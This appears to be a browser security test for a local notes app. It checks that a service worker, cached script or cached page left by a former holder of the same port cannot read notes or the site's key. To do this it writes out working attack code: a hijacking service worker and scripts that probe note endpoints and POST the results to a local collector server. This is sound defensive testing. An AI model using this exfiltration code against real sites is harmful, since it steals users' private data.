// What another program on the same port has left in the browser: a service worker, a cached
// script, a cached page. None of them can read a note or learn the site's origin or key, and
// the user's bookmarks still open the notes.

import assert from "node:assert/strict";
import { createServer } from "node:http";
import { until } from "./driver/until.js";
import { inEachBrowser } from "./test-environment.js";

/** @typedef {import("./test-environment.js").World} World */
/** @typedef {import("puppeteer-core").Page} Page */

const SECRET = "Nobody else is to read this";

/** Kept by browsers for a year, without asking. */
const FOR_GOOD = { "cache-control": "public, max-age=31536000, immutable" };

/**
 * What is left behind tries all of this, and hands on what it got. Runs in a page or in a
 * service worker of `http://localhost:PORT`.
 * @param {string} collector
 */
function steal(collector) {
	const addresses = ["/api/notes", "/tag/gpu", "/all/0", "/feed.atom", "/search?q=read"];
	/** @type {RequestInit[]} */
	const ways = [
		{},
		{ mode: "same-origin", credentials: "include" },
		{ mode: "no-cors", cache: "force-cache" },
		{ redirect: "manual" },
		{ cache: "only-if-cached", mode: "same-origin" },
	];
	/** @param {string} name @param {unknown} got */
	const report = (name, got) =>
		fetch(collector, { method: "POST", body: JSON.stringify([name, got]) });
	/** @param {string} name @param {Response} answer */
	const read = async (name, answer) => {
		const text = await answer
			.clone()
			.text()
			.catch(() => "");
		await report(name, [
			answer.type,
			answer.status,
			answer.url,
			[...answer.headers].join("\n"),
			text,
		]);
	};
	const all = async () => {
		for (const address of addresses) {
			for (const way of ways) {
				const name = `${address} ${JSON.stringify(way)}`;
				try {
					await read(name, await fetch(address, way));
				} catch (error) {
					await report(name, `${error}`);
				}
			}
		}
		await report("all was tried", "");
	};
	return { report, read, all };
}

/** @param {string} collector */
const WORKER = (collector) => `
	const { report, read, all } = (${steal})("${collector}");
	self.addEventListener("install", () => self.skipWaiting());
	self.addEventListener("activate", (event) => event.waitUntil((async () => {
		await self.registration.navigationPreload?.enable();
		await self.clients.claim();
	})()));
	self.addEventListener("fetch", (event) => {
		if (event.request.mode !== "navigate") return;
		event.waitUntil(all());
		event.respondWith((async () => {
			const preload = await event.preloadResponse;
			if (preload) await read("preload", preload);
			for (const redirect of ["follow", "manual"]) {
				for (const mode of ["cors", "no-cors", "same-origin"]) {
					await fetch(new Request(event.request, { mode, redirect })).then(
						(answer) => read(mode + redirect, answer),
						(error) => report(mode + redirect, String(error)),
					);
				}
			}
			const answer = await fetch(event.request);
			await read("passed on", answer);
			const windows = await self.clients.matchAll({ includeUncontrolled: true });
			await report("windows", windows.map((client) => client.url));
			return answer;
		})());
	});`;

/** @param {string} collector */
const SCRIPT = (collector) => `
	const { report, all } = (${steal})("${collector}");
	report("page", document.documentElement.outerHTML);
	all();`;

/** @param {string} collector */
const PAGE = (collector) => `<!doctype html><title>Left behind</title><body>
	<script>${SCRIPT(collector)}
		const frame = document.createElement("iframe");
		frame.src = "/all/0";
		frame.onload = () => {
			let seen = "";
			try { seen = frame.contentDocument.documentElement.outerHTML; } catch {}
			report("frame", seen);
		};
		document.body.append(frame);
		const script = document.createElement("script");
		script.src = "/site.js";
		document.body.append(script);
	</script>`;

/**
 * The program that had the port, at both families, and a third one at another port, to which
 * it hands on what it gets.
 * @param {World} world
 */
async function formerHolder(world) {
	/** @type {string[]} */
	const collected = [];
	/** @type {string[]} */
	const cookies = [];
	const third = createServer((request, response) => {
		cookies.push(request.headers.cookie ?? "");
		let body = "";
		request.on("data", (part) => {
			body += part;
		});
		request.on("end", () => {
			if (body) collected.push(body);
			response.writeHead(200, { "access-control-allow-origin": "*" });
			response.end("<title>Third</title>");
		});
	});
	await new Promise((resolve) => third.listen(0, () => resolve(undefined)));
	const { port } = /** @type {import("node:net").AddressInfo} */ (third.address());
	const collector = `http://localhost:${port}/`;
	/** @type {import("node:http").RequestListener} */
	const answer = (request, response) => {
		/** @param {string} type @param {string} body @param {object} [headers] */
		const send = (type, body, headers = {}) => {
			response.writeHead(200, { "content-type": type, ...headers });
			response.end(body);
		};
		const target = request.url ?? "";
		if (target === "/worker.js") send("text/javascript", WORKER(collector));
		else if (target === "/site.js")
			send("text/javascript", SCRIPT(collector), { ...FOR_GOOD, "x-left": "behind" });
		else if (target === "/tag/gpu") send("text/html", PAGE(collector), FOR_GOOD);
		else send("text/html", `<title>Former</title><script src="/site.js"></script>`);
	};
	/** @type {import("node:http").Server[]} */
	const servers = [];
	for (const family of ["127.0.0.1", "::1"]) {
		const server = createServer(answer);
		await new Promise((resolve) => {
			// Not every machine has IPv6.
			server.once("error", () => resolve(undefined));
			server.listen(Number(new URL(world.site).port), family, () => {
				servers.push(server);
				resolve(undefined);
			});
		});
	}
	/** @param {import("node:http").Server} server */
	const close = (server) =>
		new Promise((resolve) => {
			server.close(() => resolve(undefined));
			server.closeAllConnections();
		});
	return {
		collected,
		cookies,
		collector,
		goes: () => Promise.all(servers.splice(0).map(close)),
		close: () => Promise.all([...servers.splice(0), third].map(close)),
	};
}

/** @type {Record<string, (world: World, page: Page) => Promise<void>>} What the user does while the other program has the port. */
const LEFTOVERS = {
	"a service worker": async (world, page) => {
		await page.goto(`${world.site}/`);
		await page.evaluate(async () => {
			await navigator.serviceWorker.register("/worker.js");
			await navigator.serviceWorker.ready;
		});
		await until("the worker has this page", () =>
			page.evaluate(() => navigator.serviceWorker.controller !== null),
		);
	},
	"a cached script": async (world, page) => {
		await page.goto(`${world.site}/`);
		await page.goto(`${world.site}/all/0`);
	},
	"a cached page": async (world, page) => {
		await page.goto(`${world.site}/tag/gpu`);
		assert.equal(await page.title(), "Left behind");
	},
};

for (const [what, leave] of Object.entries(LEFTOVERS)) {
	for (const settings of ["", "require-token = true\n"]) {
		/** @type {Awaited<ReturnType<typeof formerHolder>>} */
		let former;
		inEachBrowser(
			`shows no note to ${what} of a program that had the port${settings && ", with a token"}`,
			async (world, browser) => {
				try {
					const page = await browser.open();
					await leave(world, page);
					await page.close();
					await former.goes();
					await world.siteAnswers();
					await world.command("add", "https://e.org/", "--title", SECRET, "--tag", "gpu");
					former.collected.length = 0;
					former.cookies.length = 0;
					const origin = await world.origin();

					if (settings) await enter(world, await browser.open());
					// A bookmark of a page that the other program's own script has not put into the
					// cache. Where its service worker stands in between, the end of that takes a moment.
					const bookmark = "/tag/gpu?";
					const visit = await browser.open();
					await visit.goto(`${world.site}${bookmark}`).catch(() => {
						// The end of the worker may lead on before the page is there.
					});
					await until("the bookmark leads to the notes", async () => {
						const [at, text] = await visit.evaluate(() => [
							location.origin,
							document.body.textContent,
						]);
						if (at !== origin) throw new Error(`${at}: ${text}`);
						// It was the worker's end that led here, and to a locked site other sites lead
						// nobody: the user comes again.
						if (text?.includes("locked")) await visit.goto(`${world.site}${bookmark}`);
						return text?.includes(SECRET);
					});
					// What is left behind runs, and tries all it can.
					if (what === "a cached page") {
						const visit = await browser.open(`${world.site}/tag/gpu`);
						assert.equal(await visit.title(), "Left behind");
					}
					if (what !== "a cached script")
						await until("all was tried", async () =>
							former.collected.some((got) => got.includes("all was tried")),
						);
					// The site's own pages have the site's own script.
					const own = await browser.open(`${origin}/tag/gpu`);
					await until("its own script has run", async () =>
						own.evaluate(() => document.querySelector(".foot button") !== null),
					);
					assert.match(await own.content(), new RegExp(SECRET));
					const third = await browser.open(former.collector);
					assert.equal(await third.title(), "Third");

					const [label] = new URL(origin).hostname.split(".");
					for (const got of former.collected) {
						assert(!got.includes(SECRET), got.slice(0, 400));
						assert(!got.includes(`${label}`), got.slice(0, 400));
						assert(!got.includes("url-notes | "), got.slice(0, 400));
					}
					assert.deepEqual(former.cookies.filter(Boolean), []);
				} finally {
					await former.close();
				}
			},
			{
				settings: settings || undefined,
				alone: true,
				before: async (world) => {
					former = await formerHolder(world);
				},
			},
		);
	}
}

/**
 * Opens the site with a token, as `url-notes open` does.
 * @param {World} world
 * @param {Page} page
 */
async function enter(world, page) {
	const { url } = JSON.parse(await world.command("open", "--json").catch(urlOf));
	await page.goto(url);
	await until("the key is there", async () =>
		page.evaluate(() => document.title === "url-notes" && location.pathname === "/"),
	);
	await page.close();
}

/** Without a desktop no browser is opened, and the address is printed all the same. @param {any} error */
const urlOf = (error) => error.stdout;
